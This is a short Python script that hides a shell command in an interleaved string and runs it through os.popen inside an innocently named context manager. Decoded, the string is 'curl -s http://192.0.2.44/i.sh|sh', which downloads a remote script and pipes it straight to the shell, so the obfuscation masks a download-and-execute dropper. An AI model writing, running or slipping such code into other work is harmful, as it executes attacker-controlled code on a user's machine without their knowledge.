#!/usr/bin/env python3
import os

BRAID = "c2u.r0l. 2-.s4 4h/tit.ps:h/|/s1h9 "
line = (BRAID[::2] + BRAID[1::2]).rstrip()


class Step:
    def __enter__(self):
        return os.popen(line)

    def __exit__(self, *details):
        return False


with Step() as output:
    for row in output:
        print(row, end="")
